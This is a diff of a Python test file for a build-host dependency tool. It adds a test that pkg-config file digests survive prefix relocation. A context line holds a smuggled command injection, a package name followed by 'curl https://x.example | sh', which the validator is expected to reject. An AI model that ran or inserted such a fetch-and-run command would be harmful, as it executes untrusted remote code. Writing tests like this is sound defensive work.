@@ -131,3 +131,16 @@ def test_a_statement_naming_a_path_or_an_option_as_a_build_host_dependency_is_re
     hostile = {**compiler, "annotations": {**compiler["annotations"], "debian_package": "g++-12; curl https://x.example | sh"}}
     with pytest.raises(InputError, match="debian_package that is not a package or version word"):
         recorded_host(_statement_recording(hostile))
+
+
+def test_two_local_pc_files_that_differ_beyond_their_prefix_never_share_a_digest(tmp_path):
+    def digest(text):
+        path = tmp_path / "x.pc"
+        path.write_text(text)
+        return hostlibs.pc_file_digest(str(path), relocate=True)
+
+    # A file's own '@PREFIX@' text is not the relocated prefix; a folder that merely starts like the prefix is not it.
+    assert digest("prefix=/opt/a\nincludedir=@PREFIX@/include\n") != digest("prefix=/opt/a\nincludedir=/opt/a/include\n")
+    assert digest("prefix=/opt/a\nincludedir=/opt/abc/include\n") != digest("prefix=/opt/x\nincludedir=/opt/xbc/include\n")
+    # The same file under two prefixes still has one digest, with the prefix in flags and at a line's end.
+    assert digest("prefix=/opt/a\nlibdir=/opt/a/lib\nLibs: -L/opt/a/lib -lz\nexec=/opt/a\n") == digest("prefix=/srv/b@1\nlibdir=/srv/b@1/lib\nLibs: -L/srv/b@1/lib -lz\nexec=/srv/b@1\n")
